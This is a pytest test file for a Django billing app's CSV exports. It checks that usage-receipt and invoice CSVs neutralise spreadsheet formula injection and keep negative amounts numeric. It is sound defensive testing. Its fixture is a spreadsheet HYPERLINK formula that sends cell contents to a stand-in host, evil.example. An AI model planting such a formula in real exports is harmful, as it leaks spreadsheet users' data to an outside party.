"""Every CSV a person downloads (the usage receipts, an invoice's lines) neutralises text a
spreadsheet would run as a formula, and leaves numbers, negative ones too, as numbers (issue
34, finding 12: an event id `=HYPERLINK(...)` reached planners' spreadsheets verbatim)."""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from billing.models import Invoice, InvoiceLine
from core.csv_export import FORMULA_PREFIXES, spreadsheet_writer
from tests.conftest import make_cost_model
from tests.support.usage import USAGE, gateway_client

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the receipt")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_a_text_cell_a_spreadsheet_would_run_gets_a_single_quote_before_it(prefix):
    buffer = io.StringIO()
    spreadsheet_writer(buffer).writerow([f"{prefix}1+2", "plain", f"a{prefix}b"])
    assert _rows(buffer.getvalue()) == [[f"'{prefix}1+2", "plain", f"a{prefix}b"]]


def test_numbers_stay_numbers_negative_ones_too_and_none_is_an_empty_cell():
    buffer = io.StringIO()
    spreadsheet_writer(buffer).writerow([-20, Decimal("-20.00"), -0.5, 3, None, True, "-20.00"])
    # The last is text ("-20.00" as a str): text is never taken for a number.
    assert buffer.getvalue() == "-20,-20.00,-0.5,3,,True,'-20.00\r\n"


def test_a_cell_cannot_end_early_to_start_a_formula_of_its_own():
    buffer = io.StringIO()
    spreadsheet_writer(buffer).writerow(['x",=1+2', "a\n=1+2"])
    assert _rows(buffer.getvalue()) == [['x",=1+2', "a\n=1+2"]]


def _post_event(gateway, event_id: str) -> None:
    finished = timezone.now() - timedelta(minutes=2)
    event = {
        "event_id": event_id,
        "customer": "acme",
        "model": "llama-8b",
        "started_at": (finished - timedelta(seconds=2)).isoformat(),
        "finished_at": finished.isoformat(),
        "input_tokens": 1000,
        "output_tokens": 100,
        "outcome": "completed",
    }
    response = gateway.post(USAGE, {"events": [event]}, format="json")
    assert response.status_code == 200, response.json()


def test_the_receipts_csv_neutralises_a_formula_event_id_and_keeps_numbers(
    served_model, gpu_type, acme, make_key, key_client, owner_client
):
    make_cost_model(served_model, gpu_type)
    gateway = gateway_client(make_key, key_client)
    for event_id in (HYPERLINK, "@SUM(1+1)", "+1-1", "-2", "req-1"):
        _post_event(gateway, event_id)
    response = owner_client.get(f"{USAGE}/csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row["event_id"] for row in rows) == sorted(
        ["'" + HYPERLINK, "'@SUM(1+1)", "'+1-1", "'-2", "req-1"]
    )
    listed = owner_client.get(USAGE).json()["results"]
    # The JSON receipts keep the id as it was sent; only the spreadsheet's copy is marked.
    assert HYPERLINK in {receipt["event_id"] for receipt in listed}
    for row in rows:
        assert float(row["mu"]) > 0 and row["input_tokens"] == "1000"
        assert row["customer"] == "acme" and row["finished_at"].endswith("Z")


def test_an_invoice_csv_neutralises_formula_text_and_keeps_a_credits_negative_amount(
    acme, served_model, acme_key_client
):
    invoice = Invoice.objects.create(
        customer=acme,
        period_start=date(2026, 10, 1),
        currency="USD",
        subtotal=Decimal("120.00"),
        credits=Decimal("-20.00"),
        total=Decimal("100.00"),
        generated_at=timezone.now(),
    )
    common = {"invoice": invoice, "served_model": served_model, "unit": "MU-min-hour"}
    InvoiceLine.objects.create(
        kind=InvoiceLine.Kind.COMMITMENT, description=HYPERLINK, quantity=Decimal("43200"),
        unit_price=Decimal("0.002778"), amount=Decimal("120.00"), **common,
    )  # fmt: skip
    InvoiceLine.objects.create(
        kind=InvoiceLine.Kind.CREDIT, description="-SLA credit", quantity=Decimal("1"),
        unit_price=Decimal("-20.00"), amount=Decimal("-20.00"), **common,
    )  # fmt: skip
    response = acme_key_client.get(f"/api/v1/invoices/{invoice.pk}/csv/")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(row["description"], row["amount"], row["unit_price"]) for row in rows] == [
        ("'" + HYPERLINK, "120.00", "0.002778"),
        ("'-SLA credit", "-20.00", "-20.000000"),
    ]
    assert [row["quantity"] for row in rows] == ["43200.000000", "1.000000"]
